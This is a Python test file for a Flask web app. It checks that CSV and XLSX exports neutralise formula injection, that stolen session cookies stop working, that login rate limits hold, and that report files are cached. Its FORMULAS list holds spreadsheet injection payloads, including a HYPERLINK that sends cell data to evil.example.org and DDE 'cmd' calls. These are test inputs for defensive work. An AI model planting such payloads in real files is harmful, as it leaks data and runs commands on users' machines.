"""Issue 16, the web side: what an attacker tried against the app and the files it writes.

- Formula injection: a hostile feed title, fiche or tutor's comment is inert text in every CSV
  and XLSX (read back with openpyxl and csv), and numbers stay numbers.
- Sessions end on the server: a copied cookie stops working after signing out, after an admin
  suspends the account, after an admin deletes it (even when SQLite gives its id to the next
  account made).
- The login rate limit holds under concurrency (the app served by waitress on 127.0.0.1, and
  the store called from threads), against a spray from an address that keeps signing in to its
  own account, and on /account's current-password check.
- The dossier's files are made once per content, also for requests that arrive together.

The watch is test_web_app's (two groups, an account per role, a jury).
"""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime, timedelta
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any
from urllib.error import HTTPError
from urllib.parse import urlencode
from urllib.request import HTTPCookieProcessor, Request, build_opener

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from test_web_app import CSRF, EMAILS, NOW, PASSWORD, Ids, Web, _build, _login, _web

from conftest import served
from watcher.config import load_watch
from watcher.model import Entry, Fiche
from watcher.web import create_app

PERIOD = "from=2026-11-01&to=2026-11-30"
# what spreadsheets evaluate (OWASP): the tests do not import the project's own list
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://evil.example.org/?d="&A1;"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Ids]:
    root = tmp_path_factory.mktemp("securitywatch")
    _workspace, ids = _build(root)
    return root, ids


@pytest.fixture
def web(base: tuple[Path, Ids], tmp_path: Path) -> Iterator[Web]:
    yield from _web(*base, tmp_path / "watch")


# --- formula injection --------------------------------------------------------------------------


def _inert_workbook(data: bytes) -> Any:
    """The workbook, after checking that no cell is a formula nor a text a spreadsheet would
    evaluate."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (sheet.title, cell.value)
    return book


def _inert_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    for row in rows:
        for field in row:
            assert NUMBER.fullmatch(field) or not field.startswith(TRIGGERS), field
    return rows


def test_inert_cell_follows_owasp_and_keeps_numbers() -> None:
    from watcher.report.spreadsheet import inert_cell

    for text in FORMULAS:
        assert inert_cell(text) == "'" + text
    for value in (3, -2, 2.5, None, date(2026, 11, 27), "", "Prix = 3 €", "'déjà"):
        assert inert_cell(value) == value


def _hostile_item(web: Web) -> str:
    """A feed item of g1 whose title is a formula, retained, with a fiche full of formulas."""
    title = FORMULAS[0]
    entry = Entry(
        url="https://news.example.org/piege",
        title=title,
        summary="Un article piégé.",
        text="Un article piégé sur les prix.",
        guid="piege",
        published=NOW - timedelta(days=1),
        language="fr",
    )
    web.store.store_feed("s1", ["g1"], [entry], NOW, url="https://s1", found=None)
    item = next(i for i in web.store.list_items() if i.guid == "piege")
    web.store.set_curation("g1", item.id, "retained", actor=EMAILS["learner"], now=NOW)
    fiche = Fiche(item.id, "g1", quoi=FORMULAS[2], action="=1+1", action_owner="@Léa")
    web.store.save_fiche(fiche, actor=EMAILS["learner"], now=NOW)
    return title


def test_dossier_xlsx_keeps_a_hostile_feed_title_as_text(web: Web, tmp_path: Path) -> None:
    from watcher.jobs import open_workspace
    from watcher.jobs.dossier import export_dossier

    title = _hostile_item(web)
    response = web.client("learner").get(f"/g/g1/dossier.xlsx?{PERIOD}")
    assert response.status_code == 200
    # the same use case as `watcher dossier` (the CLI), its file read back from the disk
    with open_workspace(web.workspace) as w:
        written = export_dossier(
            w,
            load_watch(web.workspace.config),
            "g1",
            date(2026, 11, 1),
            date(2026, 11, 30),
            now=NOW,
            out=tmp_path / "out",
            formats=["xlsx"],
        )
    for data in (response.data, written.paths[0].read_bytes()):
        book = _inert_workbook(data)
        actions = list(book["Actions"].iter_rows(min_row=2, values_only=True))
        mine = [row for row in actions if row[2] == "'" + title]
        assert mine, actions
        assert mine[0][0] == "'=1+1" and mine[0][4] == "'@Léa"
        # numbers stay numbers: the source grid's criteria and counts
        grid = {row[0].value: row for row in book["Grille des sources"].iter_rows(min_row=2)}
        criteria = grid["Source Un"][5:11]
        assert [c.value for c in criteria] == [3, 2, 2, 3, 3, 13]
        assert all(c.data_type == "n" for c in criteria)
        assert isinstance(grid["Source Un"][11].value, int)  # items collected


def test_assessment_exports_keep_a_hostile_comment_as_text(web: Web) -> None:
    tutor = web.client("tutor")
    form = {"learner": EMAILS["learner"], "grid_id": "bloc1-tuteur", "csrf_token": CSRF}
    for n, formula in enumerate(FORMULAS, start=1):
        form[f"level-C{n}"] = "3"
        form[f"comment-C{n}"] = formula
    assert tutor.post("/g/g1/assessments/record", data=form).status_code == 303
    expected = {"'" + formula.strip() for formula in FORMULAS}  # the form strips comments
    for client, path in (
        (tutor, "/g/g1/assessments.csv"),
        (web.client("evaluator"), "/assessments.csv"),
    ):
        rows = _inert_csv(client.get(path).data)
        header = rows[0]
        mine = [dict(zip(header, row, strict=True)) for row in rows[1:]]
        tutor_rows = [r for r in mine if r["grille"] == "bloc1-tuteur"]
        assert {r["commentaire"] for r in tutor_rows} == expected
        assert {r["niveau"] for r in tutor_rows} == {"3"}
    for client, path in (
        (tutor, "/g/g1/assessments.xlsx"),
        (web.client("evaluator"), "/assessments.xlsx"),
    ):
        book = _inert_workbook(client.get(path).data)
        history = book["Historique"]
        header = [c.value for c in history[1]]
        rows = [dict(zip(header, row, strict=True)) for row in history.iter_rows(min_row=2)]
        tutor_rows = [r for r in rows if r["Grille"].value == "bloc1-tuteur"]
        assert {r["Commentaire"].value for r in tutor_rows} == expected
        assert all(r["Niveau"].value == 3 and r["Niveau"].data_type == "n" for r in tutor_rows)
        assert all(isinstance(r["Version"].value, int) for r in rows)


# --- sessions end on the server -----------------------------------------------------------------


def _signed_in(web: Web, email: str, password: str = PASSWORD) -> FlaskClient:
    client = web.app.test_client()
    assert _login(client, email, password).status_code == 303
    return client


def _cookie(client: FlaskClient) -> str:
    cookie = client.get_cookie("watcher_session")
    assert cookie is not None
    return cookie.value


def _opens_account(web: Web, cookie: str) -> bool:
    """Whether a copy of the cookie, in another browser, opens /account."""
    thief = web.app.test_client()
    thief.set_cookie("watcher_session", cookie)
    return thief.get("/account").status_code == 200


def _token(client: FlaskClient) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/account").get_data(True))
    assert found
    return found.group(1)


def test_signing_out_ends_the_session_on_the_server(web: Web) -> None:
    learner = _signed_in(web, EMAILS["learner"])
    stolen = _cookie(learner)
    assert _opens_account(web, stolen)
    assert learner.post("/logout", data={"csrf_token": _token(learner)}).status_code == 303
    assert not _opens_account(web, stolen)
    assert learner.get("/account").status_code == 302
    assert _signed_in(web, EMAILS["learner"]).get("/account").status_code == 200


def _suspend(admin: FlaskClient, user_id: int, disabled: bool) -> int:
    form = {"disabled": "1" if disabled else "0", "csrf_token": CSRF}
    return admin.post(f"/admin/users/{user_id}/disabled", data=form).status_code


def test_suspending_an_account_ends_its_sessions(web: Web) -> None:
    learner = _signed_in(web, EMAILS["learner"])
    stolen = _cookie(learner)
    account = web.users.by_email(EMAILS["learner"])
    assert account is not None
    admin = web.client("admin")
    assert _suspend(admin, account.id, True) == 303
    assert not _opens_account(web, stolen)
    assert learner.get("/account").status_code == 302
    refused = _login(web.app.test_client(), EMAILS["learner"], PASSWORD)
    assert refused.status_code == 403 and "suspendu" in refused.get_data(as_text=True)
    assert "Réactiver" in admin.get("/admin/users").get_data(as_text=True)
    # a new password set by the admin does not restore the account
    new = "un nouveau mot de passe"
    reset = admin.post(f"/admin/users/{account.id}/password", data={
        "password": new, "csrf_token": CSRF})  # fmt: skip
    assert reset.status_code == 303
    assert _login(web.app.test_client(), EMAILS["learner"], new).status_code == 403
    # restored: the password works again, the copied cookie stays dead
    assert _suspend(admin, account.id, False) == 303
    assert not _opens_account(web, stolen)
    assert _signed_in(web, EMAILS["learner"], new).get("/account").status_code == 200
    # an admin does not suspend themself
    me = web.users.by_email(EMAILS["admin"])
    assert me is not None and _suspend(admin, me.id, True) == 400


def test_a_suspended_admin_does_not_count_as_one_who_can_sign_in(web: Web) -> None:
    admin = web.client("admin")
    other = web.users.add("bea@example.org", "Béa", "admin", PASSWORD, now=NOW)
    me = web.users.by_email(EMAILS["admin"])
    assert me is not None
    assert _suspend(admin, other.id, True) == 303
    demote_me = {"name": "Ada", "role": "evaluator", "csrf_token": CSRF}
    assert admin.post(f"/admin/users/{me.id}", data=demote_me).status_code == 400
    demote_her = {"name": "Béa", "role": "evaluator", "csrf_token": CSRF}
    assert admin.post(f"/admin/users/{other.id}", data=demote_her).status_code == 303


def test_deleting_an_account_ends_its_sessions_even_when_its_id_comes_back(web: Web) -> None:
    admin = web.client("admin")

    def create(email: str) -> None:
        form = {"email": email, "name": email.split("@")[0], "role": "evaluator",
                "password": PASSWORD, "csrf_token": CSRF}  # fmt: skip
        assert admin.post("/admin/users", data=form).status_code == 303

    create("mallory@example.org")
    stolen = _cookie(_signed_in(web, "mallory@example.org"))
    gone = web.users.by_email("mallory@example.org")
    assert gone is not None
    deleted = admin.post(  # confirmed, as on the confirmation page (issue 17)
        f"/admin/users/{gone.id}/delete", data={"confirm": "oui", "csrf_token": CSRF}
    )
    assert deleted.status_code == 303
    assert not _opens_account(web, stolen)
    create("nina@example.org")
    nina = web.users.by_email("nina@example.org")
    assert nina is not None and nina.id == gone.id  # SQLite gives the highest id again
    assert not _opens_account(web, stolen)  # Mallory's cookie does not open Nina's account


# --- the rate limit of password checks ----------------------------------------------------------


class _Browser:
    """Cookies and forms over real HTTP (urllib, one connection per request)."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.opener = build_opener(HTTPCookieProcessor(CookieJar()))

    def request(self, path: str, form: dict[str, str] | None = None) -> tuple[int, bytes]:
        data = urlencode(form).encode() if form is not None else None
        try:
            with self.opener.open(Request(self.base + path, data=data), timeout=120) as response:
                return response.status, response.read()
        except HTTPError as error:
            with error:  # closed now: an unclosed one warns when collected, in another test
                return error.code, error.read()

    def token(self, path: str = "/login") -> str:
        found = re.search(rb'name="csrf_token" value="([^"]+)"', self.request(path)[1])
        assert found
        return found.group(1).decode()

    def sign_in(self, email: str) -> None:
        form = {"email": email, "password": PASSWORD, "csrf_token": self.token()}
        status, _body = self.request("/login", form)
        assert status == 200  # 303 followed to the group's search page


def _together(count: int, call: Callable[[int], Any]) -> list[Any]:
    """`call(0)` … `call(count - 1)` from as many threads, released at the same moment."""
    start = threading.Barrier(count)

    def run(n: int) -> Any:
        start.wait()
        return call(n)

    with ThreadPoolExecutor(count) as pool:
        return list(pool.map(run, range(count)))


def test_forty_wrong_passwords_at_once_get_five_checks(web: Web) -> None:
    app = create_app(web.workspace, testing=True)  # the real clock
    try:
        with served(app) as base:
            browsers = [_Browser(base) for _ in range(40)]
            forms = [
                {"email": EMAILS["learner"], "password": "pas le bon", "csrf_token": b.token()}
                for b in browsers
            ]
            statuses = _together(40, lambda n: browsers[n].request("/login", forms[n])[0])
            assert statuses.count(401) == 5, statuses  # five passwords checked and wrong
            assert statuses.count(429) == 35, statuses  # refused without a check
            right = {"email": EMAILS["learner"], "password": PASSWORD}
            status, body = browsers[0].request(
                "/login", {**right, "csrf_token": forms[0]["csrf_token"]}
            )
            assert status == 429 and "15 minutes" in body.decode()
    finally:
        app.extensions["watcher"].close()


def test_concurrent_checks_in_the_store_stop_at_the_limit(web: Web) -> None:
    from watcher.store.users import LoginLocked

    def check(_n: int) -> str:
        try:
            user = web.users.try_password(EMAILS["tutor"], "pas le bon", ip="10.1.1.1", now=NOW)
        except LoginLocked:
            return "locked"
        return "checked" if user is None else "opened"

    outcomes = _together(30, check)
    assert outcomes.count("checked") == 5 and outcomes.count("locked") == 25


def test_signing_in_to_ones_own_account_does_not_reset_the_address_counter(web: Web) -> None:
    """The spray of the issue: an attacker with an account signs in to it between guesses at
    other accounts (one guess each, under the account limit) from one address, seconds apart."""
    clock = [NOW]
    app = create_app(web.workspace, now=lambda: clock[0], testing=True)
    try:
        client = app.test_client()
        guesses = []
        for n in range(40):
            clock[0] += timedelta(seconds=5)
            _login(client, EMAILS["other"], PASSWORD, ip="10.6.6.6")
            clock[0] += timedelta(seconds=5)
            guesses.append(_login(client, f"cible{n}@example.org", "Azerty123!", ip="10.6.6.6"))
        statuses = [g.status_code for g in guesses]
        assert statuses[:20] == [401] * 20 and statuses[20:] == [429] * 20, statuses
        # another address is not concerned
        assert _login(client, EMAILS["other"], PASSWORD, ip="10.7.7.7").status_code == 303
    finally:
        app.extensions["watcher"].close()


def test_the_current_password_on_the_account_page_is_rate_limited(web: Web) -> None:
    client = _signed_in(web, EMAILS["learner"])
    token = _token(client)
    new = "un autre mot de passe"
    for _ in range(5):
        wrong = client.post("/account", data={
            "current": "devine", "new": new, "confirm": new, "csrf_token": token})  # fmt: skip
        assert wrong.status_code == 400
    locked = client.post("/account", data={
        "current": PASSWORD, "new": new, "confirm": new, "csrf_token": token})  # fmt: skip
    assert locked.status_code == 429 and "15 minutes" in locked.get_data(as_text=True)
    assert web.users.authenticate(EMAILS["learner"], PASSWORD) is not None  # not changed


def test_a_new_password_set_by_the_admin_unlocks_the_account(web: Web) -> None:
    """As the 429 page says: « demandez à l'administrateur de changer le mot de passe »."""
    client = web.app.test_client()
    for _ in range(5):
        assert _login(client, EMAILS["learner"], "devine").status_code == 401
    assert _login(client, EMAILS["learner"], PASSWORD).status_code == 429
    account = web.users.by_email(EMAILS["learner"])
    assert account is not None
    new = "un mot de passe neuf"
    reset = web.client("admin").post(f"/admin/users/{account.id}/password", data={
        "password": new, "csrf_token": CSRF})  # fmt: skip
    assert reset.status_code == 303
    assert _login(client, EMAILS["learner"], new).status_code == 303


# --- the dossier's files are made once per content ---------------------------------------------


def test_the_dossier_pdf_is_made_once_per_content(web: Web) -> None:
    clock = [NOW]
    app = create_app(web.workspace, now=lambda: clock[0], testing=True)
    context = app.extensions["watcher"]
    url = f"/g/g1/dossier.pdf?{PERIOD}"
    try:
        with served(app) as base:
            tutor = _Browser(base)
            tutor.sign_in(EMAILS["tutor"])
            answers = _together(4, lambda _n: tutor.request(url))
            assert [status for status, _body in answers] == [200] * 4
            first = answers[0][1]
            assert first.startswith(b"%PDF") and {body for _s, body in answers} == {first}
            assert context.dossier_files.renders == 1  # four requests at once, one render
            clock[0] = NOW + timedelta(minutes=10)  # a click later: same content, same file
            assert tutor.request(url) == (200, first)
            assert context.dossier_files.renders == 1
            # the store changes: the next request makes a new file
            context.store.set_curation(
                "g1", web.ids.g1_twin, "retained", actor=EMAILS["learner"], now=clock[0]
            )
            status, changed = tutor.request(url)
            assert status == 200 and changed != first
            assert context.dossier_files.renders == 2
            assert tutor.request(url) == (200, changed)
            assert context.dossier_files.renders == 2
    finally:
        context.close()


def test_opening_the_dossier_page_makes_its_pdf_for_the_download(web: Web) -> None:
    """The page starts the PDF in the background (issue 24: seconds of WeasyPrint); the
    download a click later is that file, not a second render."""
    app = create_app(web.workspace, now=lambda: NOW, testing=True)
    context = app.extensions["watcher"]
    try:
        client = app.test_client()
        assert _login(client, EMAILS["tutor"], PASSWORD).status_code == 303
        assert client.get(f"/g/g1/dossier?{PERIOD}").status_code == 200
        started = getattr(context.dossier_files, "background", None)
        if started is not None:
            started.join(timeout=300)
        assert context.dossier_files.renders == 1  # made before anyone asked for it
        pdf = client.get(f"/g/g1/dossier.pdf?{PERIOD}")
        assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
        assert context.dossier_files.renders == 1  # the download found it made
        assert client.get(f"/g/g1/dossier.pdf?{PERIOD}").data == pdf.data
    finally:
        context.close()


def test_the_cached_file_is_keyed_on_the_whole_content(web: Web) -> None:
    """Two requests in different hours share the file, and so do two days when nothing changed
    (the sitography dates a source by its last successful fetch, not by the day it is asked);
    another period is another file."""
    clock: list[datetime] = [NOW]
    app = create_app(web.workspace, now=lambda: clock[0], testing=True)
    context = app.extensions["watcher"]
    try:
        client = app.test_client()
        assert _login(client, EMAILS["tutor"], PASSWORD).status_code == 303
        first = client.get(f"/g/g1/dossier.html?{PERIOD}").data
        clock[0] = NOW + timedelta(hours=2)
        assert client.get(f"/g/g1/dossier.html?{PERIOD}").data == first
        assert context.dossier_files.renders == 1
        clock[0] = NOW + timedelta(days=1)
        assert client.get(f"/g/g1/dossier.html?{PERIOD}").data == first
        assert context.dossier_files.renders == 1
        assert client.get("/g/g1/dossier.html?from=2026-11-02&to=2026-11-30").status_code == 200
        assert context.dossier_files.renders == 2
    finally:
        context.close()
